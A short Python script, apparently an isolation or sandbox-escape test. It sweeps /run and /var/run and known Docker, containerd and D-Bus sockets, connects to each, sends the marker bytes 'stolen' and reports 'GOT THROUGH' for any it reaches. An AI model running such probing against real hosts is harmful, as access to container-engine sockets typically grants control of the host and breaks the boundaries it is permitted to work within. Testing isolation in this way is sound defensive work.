# Sockets of engines and buses: where they usually are, and where variables say.
import glob, os, socket
paths = glob.glob("/run/**/*", recursive=True) + glob.glob("/var/run/**/*", recursive=True)
paths += ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"]
paths += [os.environ["ENGINE_SOCKET"], os.environ["VICTIM_HOME"] + "/.docker/run/docker.sock"]
for path in paths:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_UNIX, kind)
            s.settimeout(1)
            s.connect(path)
            s.send(b"stolen")
            print("GOT THROUGH:", path)
        except OSError:
            pass
